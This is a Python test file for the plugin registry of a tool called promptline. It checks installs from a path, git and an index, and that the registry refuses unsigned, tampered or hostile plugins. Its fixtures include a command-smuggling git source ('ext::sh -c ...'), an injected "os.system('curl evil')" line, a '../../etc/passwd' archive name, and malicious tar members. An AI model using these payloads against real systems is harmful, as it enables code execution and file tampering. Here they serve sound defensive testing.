"""Install from a path, a git repository and an index (directory and HTTP), and every refusal."""

from __future__ import annotations

import hashlib
import json

import pytest
from registry_helpers import git_repo, huge_header, member, snapshot, tar_gz, write_plugin

from promptline.enforcer.audit import read_records
from promptline.loaders._approval import ApprovalStore
from promptline.loaders._registry import (
    Index,
    RegistryError,
    Source,
    build_archive,
    decide_approval,
    parse_source,
    publish,
)
from promptline.loaders._registry._index import INDEX_FILE
from promptline.loaders._signing import load_private_key, read_tree


def _installed_ok(env, pid="demo", version="0.1.0"):
    target = env.plugins / pid
    assert (target / "plugin.yaml").is_file()
    assert json.loads((target / "plugin.yaml").read_text())["version"] == version
    assert not [p for p in env.plugins.iterdir() if p.name.startswith(".promptline-staging-")]
    return target


def _events(env):
    return [(r["plugin"]["id"], r["event"], r["detail"]) for r in read_records(env.audit) if r.get("kind") == "lifecycle"]


# -- sources ------------------------------------------------------------------------------


@pytest.mark.parametrize("text, kind, location, ref", [
    ("github:user/repo", "git", "https://github.com/user/repo.git", None),
    ("github:user/repo.git#v1.2.0", "git", "https://github.com/user/repo.git", "v1.2.0"),
    ("git+https://example.com/x.git#main", "git", "https://example.com/x.git", "main"),
    ("ssh://git@example.com/x.git", "git", "ssh://git@example.com/x.git", None),
    ("git@example.com:team/x.git", "git", "git@example.com:team/x.git", None),
    ("git@example.com:x.git", "git", "git@example.com:x.git", None),
    ("demo", "index", "IDX", None),
    ("demo@1.2.0", "index", "IDX", None),
], ids=["github", "github-ref", "git+", "ssh", "scp-like", "scp-like-no-slash", "index", "index-version"])
def test_parse_source(text, kind, location, ref):
    src = parse_source(text, index="IDX")
    assert (src.kind, src.location, src.ref) == (kind, location, ref)


def test_a_bare_name_means_the_index_even_when_a_directory_has_that_name(env, monkeypatch):
    write_plugin(env.src)
    monkeypatch.chdir(env.src)
    assert parse_source("demo", index="IDX").kind == "index"
    assert parse_source("./demo", index="IDX") == Source("path", str(env.src / "demo"))


@pytest.mark.parametrize("text", ["ext::sh -c touch% /tmp/pwned", "ftp://x/y", "./missing-dir", "Bad Name!"],
                         ids=["ext-transport", "ftp", "missing-path", "garbage"])
def test_parse_source_refuses(text):
    with pytest.raises(RegistryError) as exc:
        parse_source(text, index="IDX")
    assert exc.value.reason == "bad-source"


# -- path ---------------------------------------------------------------------------------


def test_install_from_path_unsigned_under_review_policy(env):
    src = write_plugin(env.src)
    reg = env.registry(env.open_policy)
    with reg.prepare_install(str(src)) as plan:
        assert plan.approval_needed and plan.yes_refusal is None     # a local directory: --yes may approve
        caps = {c.capability: c.verdict for c in plan.checks}
        assert caps == {"load the plugin": "allow", "network: https://api.example.com": "allow"}
        done = plan.commit(approved=decide_approval(plan, yes=True))
    target = _installed_ok(env)
    assert done.source == Source("path", str(src))
    assert ApprovalStore(env.approvals).get("demo") is not None
    assert ("demo", "approved") in [(p, e) for p, e, _ in _events(env)]
    assert read_tree(target).digest == read_tree(src).digest
    assert reg.installed()["demo"].version == "0.1.0"


def test_install_from_path_under_signature_policy_refuses_unsigned(env):
    src = write_plugin(env.src)
    before = snapshot(env.home)
    with pytest.raises(RegistryError, match="not signed") as exc:
        env.registry().install(str(src), yes=True)
    assert exc.value.reason == "signature"
    assert snapshot(env.home) == before


def test_policy_verdict_shown_per_capability(env):
    src = write_plugin(env.src, read=("~/.ssh/", "~/notes/**"), network=("*.example.com", "10.0.0.0/8:5432"))
    with env.registry(env.open_policy).prepare_install(str(src)) as plan:
        got = {c.capability: (c.action, c.verdict) for c in plan.checks}
    assert got["filesystem.read: ~/.ssh/"] == ("fs.read", "deny")
    assert got["filesystem.read: ~/notes/**"] == ("fs.read", "allow")
    assert got["network: *.example.com"] == ("net.connect", "allow")
    assert got["network: 10.0.0.0/8:5432"] == ("net.connect", "allow")


def test_no_terminal_and_no_yes_installs_nothing(env):
    src = write_plugin(env.src)
    before = snapshot(env.home)
    with pytest.raises(RegistryError, match="no terminal") as exc:
        env.registry(env.open_policy).install(str(src))
    assert exc.value.reason == "not-approved"
    assert snapshot(env.home) == before


def test_user_says_no(env):
    src = write_plugin(env.src)
    before = snapshot(env.home)
    with pytest.raises(RegistryError, match="not approved"):
        env.registry(env.open_policy).install(str(src), confirm=lambda plan: False)
    assert snapshot(env.home) == before
    assert ApprovalStore(env.approvals).get("demo") is None


def test_already_installed_then_force(env):
    src = write_plugin(env.src)
    reg = env.registry(env.open_policy)
    reg.install(str(src), yes=True)
    with pytest.raises(RegistryError, match="already installed") as exc:
        reg.install(str(src), yes=True)
    assert exc.value.reason == "already-installed"
    write_plugin(env.src, note="changed")
    reg.install(str(src), yes=True, force=True)
    assert "changed" in (env.plugins / "demo" / "demo.py").read_text()


def test_requires_excluding_this_promptline_is_refused(env):
    src = write_plugin(env.src, requires=">=99")
    with pytest.raises(RegistryError, match="requires promptline `>=99`") as exc:
        env.registry(env.open_policy).install(str(src), yes=True)
    assert exc.value.reason == "incompatible"


def test_a_missing_plugin_dir_is_created_only_by_a_successful_install(env):
    reg = env.registry(env.open_policy)
    reg.plugins_dir = env.home / "new" / "plugins"
    with pytest.raises(RegistryError):
        reg.install(str(write_plugin(env.src, requires=">=99")), yes=True)
    assert not (env.home / "new").exists()
    reg.install(str(write_plugin(env.src)), yes=True)
    assert (reg.plugins_dir / "demo" / "plugin.yaml").is_file()


# -- git ----------------------------------------------------------------------------------


def test_install_from_git_bare_repo_signed(env):
    src = write_plugin(env.src)
    from promptline.loaders._signing import sign_plugin
    sign_plugin(src, env.key_path)
    bare = git_repo(env.tmp, src)
    for source in (bare.as_uri(), str(bare)):
        reg = env.registry()
        with reg.prepare_install(source) as plan:
            assert plan.signed and not plan.approval_needed        # trusted publisher, pre-approved
            assert plan.source.kind == "git"
            plan.commit()
        _installed_ok(env)
        assert not (env.plugins / "demo" / ".git").exists()
        reg.remove("demo")


def test_install_from_git_tag(env):
    src = write_plugin(env.src, version="0.1.0")
    from promptline.loaders._signing import sign_plugin
    sign_plugin(src, env.key_path)
    bare = git_repo(env.tmp, src, tag="v0.1.0")
    write_plugin(env.src, version="0.2.0")
    sign_plugin(src, env.key_path)
    git_repo(env.tmp, src)
    env.registry().install(f"{bare.as_uri()}#v0.1.0")
    _installed_ok(env, version="0.1.0")


def test_yes_refused_for_unsigned_code_from_git(env):
    src = write_plugin(env.src)
    bare = git_repo(env.tmp, src)
    before = snapshot(env.home)
    with pytest.raises(RegistryError, match=r"cannot approve code no trusted key signed \(not signed\) from git") as exc:
        env.registry(env.open_policy).install(bare.as_uri(), yes=True)
    assert exc.value.reason == "yes-refused"
    assert snapshot(env.home) == before
    env.registry(env.open_policy).install(bare.as_uri(), confirm=lambda plan: True)   # a person may
    _installed_ok(env)


def test_git_hooks_never_run(env, tmp_path):
    src = write_plugin(env.src)
    from promptline.loaders._signing import sign_plugin
    sign_plugin(src, env.key_path)
    bare = git_repo(env.tmp, src)
    marker = tmp_path / "hook-ran"
    hook = bare / "hooks" / "post-checkout"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    env.registry().install(bare.as_uri())
    assert not marker.exists()


def test_git_clone_failure_is_clear(env):
    before = snapshot(env.home)
    with pytest.raises(RegistryError, match="cloning") as exc:
        env.registry().install((env.tmp / "nope.git").as_uri())
    assert exc.value.reason == "git-failed"
    assert snapshot(env.home) == before


# -- index --------------------------------------------------------------------------------


def _publish(env, version="0.1.0", **kw):
    src = write_plugin(env.src, version=version, **{k: v for k, v in kw.items() if k != "key"})
    return publish(src, env.index, key=kw.get("key", env.key_path))


def test_install_from_http_index(env, http_index):
    _publish(env)
    _publish(env, "0.2.0")
    reg = env.registry(index=http_index)
    with reg.prepare_install("demo") as plan:
        assert plan.version == "0.2.0" and plan.signed and not plan.approval_needed
        assert plan.entry is not None and plan.entry.sha256
        plan.commit()
    _installed_ok(env, version="0.2.0")
    assert reg.installed()["demo"].source.location == http_index


def test_install_pinned_version_from_index_dir(env):
    _publish(env)
    _publish(env, "0.2.0")
    env.registry().install("demo@0.1.0")
    _installed_ok(env, version="0.1.0")


def test_install_not_in_index(env, http_index):
    _publish(env)
    with pytest.raises(RegistryError, match="`nothere` is not in the index") as exc:
        env.registry(index=http_index).install("nothere")
    assert exc.value.reason == "not-found"


def _entry(env, pid="demo", version="0.1.0"):
    return json.loads((env.index / INDEX_FILE).read_text())["plugins"][pid]["versions"][version]


def _rewrite_index(env, fn):
    doc = json.loads((env.index / INDEX_FILE).read_text())
    fn(doc)
    (env.index / INDEX_FILE).write_text(json.dumps(doc))


def _resign(env, entry: dict) -> None:
    import base64
    from dataclasses import replace

    from promptline.loaders._registry._index import parse_index
    doc = {"format": "promptline-index/v1", "plugins": {entry["id"]: {"versions": {entry["version"]: entry}}}}
    parsed = parse_index(json.dumps(doc).encode(), "x")[entry["id"]][entry["version"]]
    parsed = replace(parsed, signature=None)
    entry["signature"] = base64.b64encode(load_private_key(env.key_path).sign(parsed.signed_message())).decode()


def _refused(env, http_index, match, reason):
    before = snapshot(env.home)
    with pytest.raises(RegistryError, match=match) as exc:
        env.registry(index=http_index).install("demo", yes=True)
    assert exc.value.reason == reason, exc.value
    assert snapshot(env.home) == before       # the plugin dir and its parent are unchanged
    return exc.value


def test_bad_checksum(env, http_index):
    entry = _publish(env)
    archive = env.index / entry.archive
    data = bytearray(archive.read_bytes())
    data[-10] ^= 0xFF
    archive.write_bytes(bytes(data))
    _refused(env, http_index, "does not match the index: expected sha256", "checksum")


def test_tampered_archive_with_matching_checksum_fails_the_tree_signature(env, http_index):
    entry = _publish(env)
    archive = env.index / entry.archive
    files = dict(read_tree(env.src / "demo").files)
    files["demo.py"] += b"\nimport os; os.system('curl evil')\n"
    import tarfile
    with tarfile.open(archive) as tar:
        sig = tar.extractfile("plugin.sig").read()
    data = build_archive(files, sig)
    archive.write_bytes(data)

    def fix(doc):
        e = doc["plugins"]["demo"]["versions"]["0.1.0"]
        e["sha256"], e["size"] = hashlib.sha256(data).hexdigest(), len(data)
        _resign(env, e)
    _rewrite_index(env, fix)
    _refused(env, http_index, "file `demo.py` changed after signing", "signature")


def test_altered_index_entry_fails_its_signature(env, http_index):
    _publish(env)
    _rewrite_index(env, lambda d: d["plugins"]["demo"]["versions"]["0.1.0"].update(requires=">=0.0"))
    _refused(env, http_index, "signature is not valid", "signature")


def test_missing_signature(env, http_index):
    publish(write_plugin(env.src), env.index, unsigned=True)
    _refused(env, http_index, "is not signed", "signature")


def test_signed_by_an_untrusted_key(env, http_index, other_key):
    _publish(env, key=other_key[0])
    _refused(env, http_index, "which is not trusted", "signature")


@pytest.mark.parametrize("real", ["1.3.0", "1.1.0"])
def test_index_lying_about_the_version(env, http_index, real):
    entry = _publish(env, real)

    def lie(doc):
        versions = doc["plugins"]["demo"]["versions"]
        e = versions.pop(real)
        e["version"] = "1.2.0"
        _resign(env, e)                      # even the (trusted) publisher's own index may lie
        versions["1.2.0"] = e
    _rewrite_index(env, lie)
    assert Index.open(http_index).versions("demo")[0].archive == entry.archive
    _refused(env, http_index, f"it says `1.2.0`, the archive holds `{real}`", "index-mismatch")


def test_index_archive_name_outside_the_tree(env):
    _publish(env)
    _rewrite_index(env, lambda d: d["plugins"]["demo"]["versions"]["0.1.0"].update(archive="../../etc/passwd"))
    with pytest.raises(RegistryError, match="unsafe archive name") as exc:
        env.registry().install("demo")
    assert exc.value.reason == "bad-index"


@pytest.mark.parametrize("name", ["traversal", "absolute", "symlink", "hardlink", "huge", "device"])
def test_hostile_archive_from_the_index_leaves_nothing_behind(env, http_index, name):
    import tarfile
    hostile = {
        "traversal": tar_gz([member("plugin.yaml", b"id: demo\n"), member("../../../escaped.txt")]),
        "absolute": tar_gz([member(str(env.home / "escaped.txt"))]),
        "symlink": tar_gz([member("plugins", kind=tarfile.SYMTYPE, link=str(env.plugins))]),
        "hardlink": tar_gz([member("x", kind=tarfile.LNKTYPE, link=str(env.approvals))]),
        "huge": huge_header("plugin.yaml", 10 ** 12),
        "device": tar_gz([member("dev", kind=tarfile.CHRTYPE)]),
    }[name]
    entry = _publish(env)
    (env.index / entry.archive).write_bytes(hostile)

    def fix(doc):
        e = doc["plugins"]["demo"]["versions"]["0.1.0"]
        e["sha256"], e["size"] = hashlib.sha256(hostile).hexdigest(), len(hostile)
        _resign(env, e)
    _rewrite_index(env, fix)
    before_tmp = snapshot(env.tmp / "state")
    match = {"traversal": "climbs out", "absolute": "absolute path", "symlink": "is a symlink",
             "hardlink": "is a hard link", "huge": "over the limit", "device": "character device"}[name]
    _refused(env, http_index, match, "too-large" if name == "huge" else "bad-archive")
    assert snapshot(env.tmp / "state") == before_tmp
    assert not list(env.tmp.rglob("escaped.txt"))


def test_only_an_org_trusted_key_pre_approves(env):
    """A trusted key in a user layer verifies the signature but approves nothing; the same key
    in the org layer pre-approves — for install exactly as for plugin list and loading."""
    from promptline.loaders import Registry, discover, inspect_plugin, sign_plugin
    from promptline.policy import load_policy_set

    src = write_plugin(env.src)
    sign_plugin(src, env.key_path)
    user_layer = env.tmp / "user-trust.yaml"
    user_layer.write_text(f'apiVersion: promptline/v1\nkind: Policy\nlayer: user\nsettings:\n  trusted_keys: ["{env.pub}"]\n')
    for policies, preapproved in (([env.open_policy, user_layer], False), ([env.trusting_policy], True)):
        reg = Registry(env.plugins, policy_files=[str(p) for p in policies], approvals=env.approvals,
                       index=str(env.index))
        with reg.prepare_install(str(src)) as plan:
            assert plan.approval_needed is not preapproved, policies
        settings = load_policy_set([str(p) for p in policies]).settings
        found = discover(search_path=[env.src], config_path=False, entry_points=False).get("demo")
        listed = inspect_plugin(found, settings, ApprovalStore(env.approvals))
        assert listed.signature.startswith("signed (")
        assert (listed.status.state == "approved") is preapproved, (policies, listed.status)
